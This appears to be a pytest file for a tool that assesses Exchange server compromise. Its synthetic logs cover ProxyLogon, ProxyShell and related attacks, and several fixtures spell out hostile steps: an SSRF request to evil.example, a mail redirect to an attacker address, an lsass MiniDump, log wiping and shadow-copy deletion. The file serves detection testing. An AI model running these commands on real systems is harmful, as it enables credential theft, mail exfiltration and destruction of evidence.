"""Incidents and ordinary servers as people report them: a few lines of whatever logs there were.

Each is made up after published facts, with addresses and names of the documentation ranges; pages
hold inert markers alone. Said of each: the grade, every chain, every backdoor, kinds of impact, who
is an intruder, and who is named at all. Nobody who only uses the server is ever named.
"""

from __future__ import annotations

import msgspec
import pytest
from test_chains import EVENTS, PROXY, SYSMON, application, exchange_event, refusals
from test_verdicts import (
    BACK,
    CHOPPER,
    ECP,
    IIS,
    INTRUDER,
    MARKUP,
    OWA,
    PROBE,
    SECOND,
    TRACES,
    USER,
    V15,
    assessed,
    child,
    dump,
    ecp,
    hit,
    iis,
    lines,
    proxy,
    row,
    written,
)

# ruff: noqa: E501 one case, one line or few

WEB = "C:\\inetpub\\wwwroot\\aspnet_client\\"
CONFIG = "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config"
AGENTS = "E:\\Exchange2016\\TransportRoles\\Shared\\agents.config"
CMD, POWERSHELL = (
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
)
OTHER_ORDER = "date time s-sitename s-computername cs-method cs-uri-stem s-port cs-uri-query c-ip cs-username cs(User-Agent) sc-status sc-bytes time-taken"
FEW = "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status"
BEHIND = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken X-Forwarded-For"
# The columns of Exchange 2013.
OLD = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,"
    "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,GenericInfo"
)
ANNA, SYSTEM = "corp.example.org/Users/Anna", "NT AUTHORITY\\SYSTEM (w3wp)"


def users(*more: str) -> str:
    """The IIS log of a server with people at work, and these rows."""
    return iis(
        hit("GET /owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0", 200, USER, "05:00:00"),
        hit("POST /owa/auth.owa", 302, USER, "05:00:09", user="EXAMPLE\\anna"),
        hit("POST /owa/service.svc?action=FindItem&EP=1", 200, USER, "05:00:11", user="EXAMPLE\\anna"),
        hit("POST /mapi/emsmdb/?MailboxId=1@example.org", 200, "198.51.100.24", "05:01:00", user="EXAMPLE\\bob"),
        *more,
    )  # fmt: skip


def plain(order: str, *rows: str) -> str:
    """An IIS log with columns of its own; each row is `time method stem query status client user size`."""
    names = order.split(" ")[2:]
    made = []
    for one in rows:
        at, method, stem, query, status, who, user, size = one.split(" ")
        cell = {"s-sitename": "W3SVC1", "s-computername": "MAIL01", "cs-method": method, "cs-uri-stem": stem, "s-port": "443",
                "cs-uri-query": query, "c-ip": who, "cs-username": user, "cs(User-Agent)": "-", "sc-status": status,
                "sc-bytes": size, "time-taken": "31"}  # fmt: skip
        made.append(" ".join((at, *(cell[name] for name in names))))
    return iis(*made, header=order)


def cmdlet(name: str, parameters: str, who: str = "corp.example.org/Admins/Admin", at: str = "06:22:00",
           number: int = 1, error: str = "", process: str = "8372 w3wp#MSExchangePowerShellAppPool") -> dict[str, object]:  # fmt: skip
    """An event of Exchange's cmdlet log as evtx_dump writes it: data without names."""
    data = [name, parameters, who, "S-1-5-21-1-2-3-500", "S-1-5-21-1-2-3-500", "Remote-ManagementShell-Unknown", process, "", "54", "00:00:00.22", "", error]  # fmt: skip
    return record(
        "MSExchange Management", "MSExchange CmdletLogs", number, at, {"Data": {"#text": data}}
    )


def record(
    channel: str, provider: str, number: int, at: str, data: dict[str, object]
) -> dict[str, object]:
    system = {
        "Provider": {"#attributes": {"Name": provider}}, "EventID": number, "Channel": channel, "Computer": "MAIL01.corp.example.org",
        "TimeCreated": {"#attributes": {"SystemTime": f"2021-03-03T{at}.000Z"}}, "EventRecordID": 7,
    }  # fmt: skip
    return {"Event": {"System": system, "EventData": data}}


def started(image: str, command: str, parent: str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe", at: str = "06:22:30",
            who: str = "MAIL01$") -> dict[str, object]:  # fmt: skip
    """Security 4688, which does not name the pool."""
    return record("Security", "Microsoft-Windows-Security-Auditing", 4688, at, {
        "SubjectUserName": who, "SubjectDomainName": "EXAMPLE", "NewProcessName": image, "CommandLine": command, "ParentProcessName": parent,
    })  # fmt: skip


def security(number: int, at: str = "06:23:00", **data: object) -> dict[str, object]:
    return record("Security", "Microsoft-Windows-Security-Auditing", number, at, data)


def service(name: str, image: str) -> dict[str, object]:
    """System 7045 as NXLog writes it."""
    return {"EventTime": "2021-03-03 06:24:00", "Hostname": "MAIL01", "EventID": 7045, "SourceName": "Service Control Manager", "Channel": "System",
            "ServiceName": name, "ImagePath": image, "ServiceType": "user mode service", "StartType": "auto start", "AccountName": "LocalSystem"}  # fmt: skip


def defender(number: int, threat: str, path: str) -> dict[str, object]:
    """A finding of the antivirus as Winlogbeat writes it."""
    return {"@timestamp": "2021-03-07T10:00:00.000Z", "host": {"name": "MAIL01"}, "winlog": {
        "channel": "Microsoft-Windows-Windows Defender/Operational", "provider_name": "Microsoft-Windows-Windows Defender", "event_id": number,
        "computer_name": "MAIL01.corp.example.org", "event_data": {"Threat Name": threat, "Path": path, "Action Name": "Quarantine"}}}  # fmt: skip


def script(text: str) -> dict[str, object]:
    return {"ProviderName": "Microsoft-Windows-PowerShell", "LogName": "Microsoft-Windows-PowerShell/Operational", "Id": 4104, "MachineName": "MAIL01",
            "TimeCreated": "2021-03-03T06:25:00Z", "Message": f"Creating Scriptblock text (1 of 1):\n{text}\n\nScriptBlock ID: 1\nPath: C:\\Scripts\\x.ps1"}  # fmt: skip


def anchored(anchor: str, status: str = "200", columns: str = OLD, **more: str) -> str:
    ordinary = row(
        "Sid~S-1-5-21-1-2-3-1105",
        AuthenticatedUser="EXAMPLE\\anna",
        IsAuthenticated="true",
        ClientIpAddress=USER,
        UrlStem="/owa/",
    )
    return proxy(ordinary, row(f"ServerInfo~{anchor}", status, **more), columns=columns)


EXPORT = (
    '-Mailbox "admin" -FilePath "\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\inert.aspx"'
)
RIGHT = cmdlet(
    "New-ManagementRoleAssignment", '-Role "Mailbox Import Export" -User "admin"', at="06:21:40"
)
SHELL = hit(
    "POST /autodiscover/autodiscover.json?@evil.example/powershell/?X-Rps-CAT=VgEA&Email=autodiscover/autodiscover.json%3F@evil.example",
    200,
    at="06:21:10",
)
TASK = "<Task><Actions><Exec><Command>{}</Command></Exec></Actions></Task>"
USED = child(CMD) | {"TimeCreated": "2021-03-03T06:22:00.000Z"}
COPIED = '<configuration><system.applicationHost><sites><site name="Default Web Site"><application path="/">{}</application></site></sites></system.applicationHost></configuration>'
CONTEXT = "containerfile:_{0}; file:_{0}->(UTF-16LE)"


class Case(msgspec.Struct):
    """What the evidence is and what must be said of it. `doors` are kinds with part of the name or
    path, `also` are addresses that are named without being an intruder's."""

    name: str
    files: dict[str, str | bytes]
    grade: str
    chains: dict[str, str] = {}
    doors: tuple[str, ...] = ()
    impact: tuple[str, ...] = ()
    intruders: tuple[str, ...] = ()
    also: tuple[str, ...] = ()


ORDINARY = (
    Case("update", {IIS: users(hit("GET /ecp/default.aspx", 500, USER, user="EXAMPLE\\admin"), hit("GET /owa/", 503, USER)), EVENTS: lines(
        started(POWERSHELL, "powershell -Command Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Stop-SetupService", "C:\\Windows\\System32\\msiexec.exe"),
        *(written(OWA + name, "C:\\Windows\\System32\\msiexec.exe") for name in ("logon.aspx", "errorFE.aspx", "OutlookCN.aspx")))}, "no evidence"),
    Case("monitoring", {IIS: users(hit("GET /owa/healthcheck.htm", 200, "10.1.1.9"), hit("POST /powershell?clientApplication=ActiveMonitor;PSVersion=5.1", 200, "::1", user="EXAMPLE\\MAIL01$", agent="Microsoft+WinRM+Client")),
         BACK: iis(hit("POST /EWS/Exchange.asmx", 200, "10.1.1.6", user="EXAMPLE\\MAIL02$", port=444, agent="EwsStoreDataProvider/15.01.2375.007"),
                   hit("GET /owa/proxylogon.owa", 200, "10.1.1.6", user="EXAMPLE\\MAIL02$", port=444))}, "no evidence"),
    Case("legal-hold-and-helpdesk", {IIS: users(), EVENTS: lines(
        RIGHT, cmdlet("New-MailboxSearch", '-Name "Case 42" -SourceMailboxes "anna","bob"'), cmdlet("New-MailboxExportRequest", '-Mailbox "leaver" -FilePath "\\\\fs01\\pst$\\leaver.pst"'),
        cmdlet("New-MailboxExportRequest", '-Mailbox "x" -FilePath "C:\\x.pst"', number=6, error="MRSException"), cmdlet("Remove-MailboxExportRequest", '-Identity "leaver" -Confirm "False"'),
        cmdlet("Add-MailboxPermission", '-Identity "shared" -User "anna" -AccessRights "FullAccess"'), cmdlet("Set-Mailbox", '-Identity "leaver" -ForwardingSmtpAddress "smtp:anna@example.org"'),
        cmdlet("New-InboxRule", '-Name "move" -ForwardTo "x@example.net"', ANNA), cmdlet("New-TransportRule", '-Name "Journal" -BlindCopyTo "archive@example.org"'),
        cmdlet("New-ExchangeCertificate", '-GenerateRequest "True" -RequestFile "\\\\MAIL01\\C$\\certs\\mail.req"'), cmdlet("Add-RoleGroupMember", '-Identity "Organization Management" -Member "new"'))},
        "no evidence"),
    Case("set-up-day", {IIS: users(), EVENTS: lines(
        cmdlet("New-OabVirtualDirectory", '-Server "MAIL01" -InternalUrl "https://mail01/OAB"'), cmdlet("Install-TransportAgent", f'-Name "Malware Agent" -AssemblyPath "{V15}TransportRoles\\agents\\Antimalware\\x.dll"'),
        security(4732, MemberName="CN=Exchange Trusted Subsystem", MemberSid="S-1-5-21-1-2-3-1119", TargetUserName="Administrators", TargetSid="S-1-5-32-544", SubjectUserName="MAIL01$"))},
        "no evidence"),
    Case("mobile-discovery", {IIS: users(*(hit(f"GET {what}", status, USER) for what, status in (
        ("/autodiscover/autodiscover.json?Email=anna%40example.org&Protocol=EWS&RedirectCount=3", 200), ("/autodiscover/autodiscover.json/v1.0/SMTP%3aanna@example.org?Protocol=Mapi&RedirectCount=1", 302),
        ("/autodiscover/autodiscover.json/v1.0/bob%40example.org?Protocol=AutodiscoverV1", 404))))}, "no evidence"),
    Case("robots", {IIS: users(hit("GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", 200, PROBE, agent="Mozilla/5.0+zgrab/0.x"), hit("GET /.env", 404, PROBE), hit("GET /wp-login.php", 404, PROBE))}, "no evidence"),
    Case("vendors", {IIS: users(),
        CONFIG: '<configuration><system.webServer><globalModules><add name="DuoIIS" image="C:\\Program Files\\Duo Security\\duo.dll" /><add name="kerbauth" image="E:\\Exchange2016\\Bin\\kerbauth.dll" /></globalModules></system.webServer></configuration>',
        AGENTS: '<configuration><mexRuntime><agentList><agent name="ScanMail Routing Agent" classFactory="T.F" assemblyPath="C:\\Program Files\\Trend Micro\\Smex\\hook.dll" enabled="true" /></agentList></mexRuntime></configuration>',
        EVENTS: lines(service("VeeamGuestHelper", "C:\\Windows\\VeeamGuestHelper\\VeeamGuestHelper.exe"), service("ScreenConnect Client (ab)", '"C:\\Program Files (x86)\\ScreenConnect Client (ab)\\ScreenConnect.ClientService.exe" "?e=Access"'),
                      service("PDQDeployRunner-1", "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe"), service("WdNisDrv", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\x\\WdNisDrv.sys"))},
        "no evidence"),
    Case("administration-by-command", {IIS: users(), EVENTS: lines(*(started("C:\\Windows\\System32\\" + image, command, parent, who="admin") for image, command, parent in (
        ("vssadmin.exe", "vssadmin list writers", CMD), ("net.exe", "net localgroup administrators EXAMPLE\\srv-admins /add", CMD), ("wbem\\WMIC.exe", "wmic os get caption", CMD), ("nltest.exe", "nltest /dsgetdc:example.org", CMD),
        ("cmd.exe", "cmd /c forfiles /p C:\\inetpub\\logs\\LogFiles /s /m *.log /d -30 /c \"cmd /c del @path\"", "C:\\Windows\\System32\\svchost.exe"), ("certutil.exe", "certutil -store my", CMD),
        ("vssadmin.exe", "vssadmin delete shadows /for=C: /oldest", CMD), ("wbadmin.exe", "wbadmin delete systemstatebackup -keepVersions:3", CMD), ("certutil.exe", "certutil -urlcache * delete", CMD),
        ("WindowsPowerShell\\v1.0\\powershell.exe", "powershell Set-MpPreference -DisableRealtimeMonitoring $true", CMD), ("net.exe", "net stop MSExchangeIS /y", CMD), ("reg.exe", "reg save HKLM\\SOFTWARE D:\\b.hiv", CMD),
        ("WindowsPowerShell\\v1.0\\powershell.exe", "powershell -ExecutionPolicy Bypass -Command iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))", CMD),
        ("WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell -NoProfile -EncodedCommand JgBjAGgAYwBwAC4AYwBvAG0AIAA2ADUAMAAwADEA", "C:\\Windows\\System32\\wsmprovhost.exe"))),
        script("# Test-ProxyLogon\nGet-ChildItem $env:ProgramData -Include *.7z,*.zip; # ServerInfo~*/* lsass procdump powercat"))}, "no evidence"),
    # Exchange 2010 has its error page in the folder where later versions have none of that name.
    Case("old-pages", {IIS: users(hit("GET /owa/auth/error.aspx?url=x", 200, USER), hit("GET /owa/redir.aspx?C=abc&URL=x", 200, USER, user="EXAMPLE\\anna"), hit("POST /exchweb/bin/auth/owaauth.dll", 302, USER),
                                  hit("GET /owa/auth/logon.aspx?__VIEWSTATE=&replaceCurrent=1", 200, USER, user="EXAMPLE\\anna"))}, "no evidence"),
    # What supports a chain at most names nobody.
    Case("rules-of-their-own", {IIS: users(*(hit(f"POST /owa/service.svc?action={action}&EP=1", 200, USER, "08:00:00", user="EXAMPLE\\anna") for action in ("NewInboxRule", "SetInboxRule", "InstallApp")))}, "no evidence"),
    Case("wrong-passwords-behind-a-balancer", {IIS: iis(*refusals(14, each=2, who="10.1.1.9"))}, "no evidence"),
    Case("own-page", {IIS: users(hit("POST /status/default.aspx", 200, USER)), "C:\\inetpub\\wwwroot\\status\\default.aspx": '<%@ Page Language="C#" %><%= System.DateTime.Now %>',
                      WEB + "web.config": '<configuration><system.webServer><httpRedirect enabled="true" destination="/owa" /></system.webServer></configuration>'}, "no evidence"),
    Case("antivirus-mistakes-a-stock-page", {IIS: users(), EVENTS: lines(defender(1117, "Exploit:ASP/CVE-2021-27065", "file:_" + OWA + "logon.aspx"), defender(1117, "Backdoor:MSIL/Chopper", f"file:_{TRACES}root\\1\\2\\App_Web_x.dll"))}, "no evidence"),
    Case("empty-files", {IIS: users(), BACK: "", EVENTS: ""}, "no evidence"),
)  # fmt: skip

TRIED = (
    Case("refused", {IIS: users(hit("POST /ecp/abc.js", 404), hit("POST /owa/auth/Current/themes/resources/owafont_ko.css", 302, agent="DuckDuckBot/1.0"))}, "attempted", {"ProxyLogon": "attempted"}, also=(INTRUDER,)),
    Case("scanner-inside", {IIS: users(*(hit(f"GET {what}", status, "10.1.9.9") for what, status in (
        ("/autodiscover/autodiscover.json?@test.example/owa/?&Email=autodiscover/autodiscover.json%3F@test.example", 401), ("/aspnet_client/shell.aspx", 404), ("/owa/auth/x.js", 302))))},
        "attempted", {"ProxyShell": "probed"}, also=("10.1.9.9",)),
    Case("shells-of-others", {IIS: users(hit("GET /owa/auth/babydraco.aspx", 404, PROBE), hit("HEAD /owa/auth/RedirSuiteServerProxy.aspx", 302, SECOND))}, "attempted", also=(PROBE, SECOND)),
    Case("voice-mail-error", {IIS: users(), EVENTS: application("MSExchange Unified Messaging", 1081, "error: System.InvalidCastException: Unable to cast object")}, "attempted", {"ProxyLogon": "attempted"}),
    Case("export-that-failed", {IIS: users(SHELL), EVENTS: lines(cmdlet("New-MailboxExportRequest", EXPORT, number=6, error="ManagementObjectNotFoundException"))}, "attempted", {"ProxyShell": "reached"}, intruders=(INTRUDER,)),
    Case("mitigated", {IIS: users(hit("GET /autodiscover/autodiscover.json?a@example.org/PowerShell/", 403, user="EXAMPLE\\bob"))}, "attempted", {"ProxyNotShell": "attempted"}, also=(INTRUDER,)),
    Case("download-elsewhere", {V15 + "Logging\\OABGeneratorLog\\x.log": "#Software: Microsoft Exchange Server\r\n#Fields: TimeStamp,Server,Text\r\n"
        f"2021-03-03T06:00:00.000Z,MAIL01,Download failed and temporary file '{V15}ClientAccess\\OAB\\Temp\\x.tmp' needs to be removed\r\n"
        f"2021-03-03T06:30:00.000Z,MAIL01,Download failed and temporary file '{WEB}zz.aspx' needs to be removed\r\n"}, "attempted", {"ProxyLogon": "attempted"}),
    # The unhandled exception has an event of its own, which names the task in words.
    Case("cast-in-an-event-of-its-own", {IIS: users(), EVENTS: exchange_event(8, "Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast")}, "attempted", {"CVE-2021-42321": "reached"}),
)  # fmt: skip

EXPLOITED = (
    Case("old-columns", {PROXY: anchored("a]@MAIL01:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=Ab.#")}, "exploited", {"ProxyLogon": "exploited"}, intruders=(INTRUDER,)),
    # No request identifier ties the two ends together, the moment does.
    Case("both-ends-other-order", {IIS: plain(OTHER_ORDER, f"06:21:10 POST /ecp/main.css - 200 {INTRUDER} - 900", f"05:00:00 GET /owa/ - 302 {USER} - 900"),
        BACK: plain(OTHER_ORDER.replace("s-port ", ""), "06:21:11 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory 200 192.0.2.10 EXAMPLE\\MAIL01$ 9", "05:00:00 GET /owa/ - 200 192.0.2.10 EXAMPLE\\anna 9")},
        "exploited", {"ProxyLogon": "exploited"}, intruders=(INTRUDER,)),
    Case("directory-server", {EVENTS: lines(security(5136, SubjectUserName="MAIL01$", ObjectClass="msExchOABVirtualDirectory", AttributeLDAPDisplayName="msExchExternalHostName", AttributeValue=f"http://f/{MARKUP}"))}, "exploited", {"ProxyLogon": "exploited"}),
    Case("set-in-the-panel", {ECP: ecp("\"S:TIME=4;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/" + MARKUP.replace('"', '""') + "''.Identity=''8''';S:URL=/ecp/x;S:EX=;S:RS=0\"")}, "exploited", {"ProxyLogon": "exploited"}),
    Case("paint", {EVENTS: lines({**child("C:\\Windows\\System32\\mspaint.exe", "MSExchangeServicesAppPool"), "TimeCreated": "2021-03-03T06:21:32.000Z"}) + exchange_event(8, "Task Get-App throwing unhandled exception: System.InvalidCastException: x")},
         "used", {"CVE-2021-42321": "exploited"}),
    Case("inbox-rule", {IIS: users(hit("GET /ecp/anna@example.org/RulesEditor/InboxRules.svc/NewObject?SecurityToken=x", 500, at="06:21:58"), hit("POST /ecp/anna@example.org/RulesEditor/InboxRules.svc/NewObject?SecurityToken=x&msExchEcpCanary=abc.", 200, at="06:21:59")),
        EVENTS: lines(cmdlet("New-InboxRule", '-Mailbox "anna" -Name "x" -RedirectTo "drop@evil.example"', SYSTEM))}, "backdoored", {"ProxyToken": "exploited"}, ("mail rule",), intruders=(INTRUDER,)),
)  # fmt: skip

BACKDOORED = (
    Case("dump", {WEB + "discover.aspx": dump(), IIS: users()}, "backdoored", {"ProxyLogon": "exploited"}, ("web shell discover.aspx",)),
    Case("dump-asked-from-afar", {WEB + "system_web\\0QWYSEXe.aspx": dump(), IIS: users(*(hit("POST /aspnet_client/system_web/0QWYSEXe.aspx", 200, "2001:db8::66") for _ in range(2)))},
         "used", {"ProxyLogon": "exploited"}, ("web shell 0QWYSEXe.aspx",), intruders=("2001:db8::66",)),
    Case("masquerade-other-root", {"E:\\Exchange2016\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServerProxy.aspx": CHOPPER, IIS: users(
        *(hit("POST /owa/auth/RedirSuiteServerProxy.aspx", 200, who) for who in (INTRUDER, SECOND)), hit("GET /owa/auth/RedirSuiteServerProxy.aspx", 404, PROBE))},
        "used", {}, ("web shell RedirSuiteServerProxy.aspx",), intruders=(INTRUDER, SECOND), also=(PROBE,)),
    Case("compiled", {TRACES + "owa\\8e05b027\\e164d61b\\errorff.aspx.51a3c1f2.compiled": '<preserve resultType="3" virtualPath="/owa/auth/errorFF.aspx" type="ASP.x"></preserve>', IIS: users()}, "backdoored", {}, ("web shell errorFF.aspx",)),
    Case("behind-a-balancer", {IIS: iis(*(f"{hit('POST /owa/auth/HttpProxy.aspx', 200, '10.1.1.9', at)} {INTRUDER}" for at in ("08:00:00", "08:01:00")), f"{hit('GET /owa/', 302, '10.1.1.9')} {USER}", header=BEHIND)},
         "used", {}, ("web shell HttpProxy.aspx",), intruders=(INTRUDER,)),
    Case("few-columns", {IIS: plain(FEW, *(f"09:0{n}:00 POST /aspnet_client/iispage.aspx - 200 {INTRUDER} - 0" for n in range(2)), f"09:05:00 GET /owa/ - 302 {USER} - 0")}, "used", {}, ("web shell iispage.aspx",), intruders=(INTRUDER,)),
    Case("two-spellings", {IIS: users(hit("POST /OWA/AUTH/Cur%72ent/Script/SessionStore.ASPX", 200), hit("POST /owa/auth//current/script/sessionstore.aspx", 200, at="08:00:00"))}, "used", {}, ("web shell sessionstore.aspx",), intruders=(INTRUDER,)),
    Case("hidden-directories", {CONFIG: COPIED.format('<virtualDirectory path="/owa/auth/zcom" physicalPath="C:\\ProgramData\\COM\\" /><virtualDirectory path="/zx" physicalPath="\\\\?\\C:\\Users\\All Users\\AUX" />'),
        IIS: users(*(hit("POST /owa/auth/zcom/a.aspx", 200, at=at) for at in ("08:00:00", "08:01:00")))}, "used", {}, ("web shell a.aspx", "virtual directory zcom", "virtual directory zx"), intruders=(INTRUDER,)),
    Case("export", {IIS: users(SHELL, hit("POST /aspnet_client/inert.aspx", 200, at="06:30:00")), EVENTS: lines(RIGHT, cmdlet("New-MailboxExportRequest", EXPORT))},
         "used", {"ProxyShell": "exploited"}, ("web shell inert.aspx", "role assignment admin"), intruders=(INTRUDER,)),
    Case("written-by-the-export", {EVENTS: lines(written(WEB + "kzqw.aspx", V15 + "Bin\\MSExchangeMailboxReplication.exe"))}, "backdoored", {"ProxyShell": "exploited"}, ("web shell kzqw.aspx",)),
    # The antivirus knew it and nothing else is left of it.
    Case("antivirus", {EVENTS: lines(defender(1116, "Backdoor:ASP/Chopper.F!dha", CONTEXT.format(WEB + "supp0rt.aspx")))}, "backdoored", {}, ("web shell supp0rt.aspx",)),
    Case("module-by-command", {EVENTS: lines({**child("C:\\Windows\\System32\\inetsrv\\appcmd.exe", None, CMD), "CommandLine": "appcmd install module /name:HttpFDataModule /image:C:\\ProgramData\\HttpFDataModule.dll"})},
         "impacted", {}, ("IIS module HttpFDataModule",), ("persistence",)),
    Case("agent-by-the-system", {EVENTS: lines(cmdlet("Install-TransportAgent", '-Name "Routing" -TransportAgentFactory "X.F" -AssemblyPath "C:\\Windows\\Temp\\agent.dll"', SYSTEM, process="4411 powershell"))}, "backdoored", {}, ("transport agent Routing",)),
)  # fmt: skip

FOLLOWED = (
    Case("dump-fetched", {EVENTS: lines(started("C:\\Windows\\System32\\rundll32.exe", f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 {WEB}g.dmp full", CMD)),
        IIS: plain(OTHER_ORDER, f"10:03:00 GET /aspnet_client/g.dmp - 200 {INTRUDER} - 48234567", f"10:04:00 GET /owa/ - 302 {USER} - 900")}, "impacted", {}, (), ("credential dump", "exfiltration"), (INTRUDER,)),
    Case("dump-seen-by-its-reader", {EVENTS: lines({**child("x"), "EventID": 10, "SourceImage": "C:\\Windows\\System32\\rundll32.exe", "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1fffff",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9c|C:\\Windows\\System32\\comsvcs.dll+1234"})}, "impacted", {}, (), ("credential dump",)),
    Case("task-under-a-borrowed-name", {EVENTS: lines(started(CMD, "cmd.exe /c whoami"), security(4698, TaskName="\\Microsoft\\Windows\\Maintenance\\CacheTask", TaskContent=TASK.format("C:\\ProgramData\\Microsoft\\x.bat"), SubjectUserName="MAIL01$"))},
         "impacted", {}, ("scheduled task CacheTask",), ("persistence",)),
    Case("tasks-of-reported-names", {SYSMON: lines(USED), EVENTS: lines(record("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 106, "06:22:10", {"TaskName": "\\blackball", "UserContext": "S-1-5-18"}))},
         "impacted", {}, ("scheduled task blackball",), ("persistence",)),
    Case("tasks-of-such-names-alone", {IIS: users(), EVENTS: lines(record("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 106, "06:22:10", {"TaskName": "\\rtsa", "UserContext": "S-1-5-18"}))}, "no evidence"),
    Case("service-beside-a-program", {EVENTS: lines(service("OperaUpdate", "C:\\Users\\Public\\opera\\Opera_browser.exe"))}, "impacted", {}, ("service OperaUpdate",), ("persistence",)),
    Case("logs-cleared-by-a-page", {EVENTS: lines(started(CMD, "cmd.exe /c wevtutil cl Security & del /q C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"))}, "impacted", {}, (), ("log tampering",)),
    Case("copies-removed", {EVENTS: lines(started("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet", CMD), started("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no", CMD))}, "impacted", {}, (), ("ransomware",)),
)  # fmt: skip


@pytest.mark.parametrize(
    "case", ORDINARY + TRIED + EXPLOITED + BACKDOORED + FOLLOWED, ids=lambda case: case.name
)
def test_incident(case: Case) -> None:
    found = assessed(case.files).assessment
    assert found.verdict.grade == case.grade
    assert {chain.name: chain.outcome for chain in found.chains} == case.chains
    doors = [f"{d.kind} {d.name or d.url or d.path}".lower() for d in found.backdoors]
    assert len(doors) == len(case.doors), doors
    for kind, _, name in (said.rpartition(" ") for said in case.doors):
        assert any(d.startswith(kind.lower()) and name.lower() in d for d in doors), doors
    assert set(case.impact) <= {entry.kind for entry in found.impact}
    assert bool(case.impact) or case.grade == "used" or found.impact == ()
    intruders = {a for op in found.operators if op.class_ == "intruder" for a in op.addresses}
    assert intruders == set(case.intruders)
    named = {a for op in found.operators for a in op.addresses}
    named |= {a for chain in found.chains for a in chain.sources}
    assert named == {*case.intruders, *case.also}
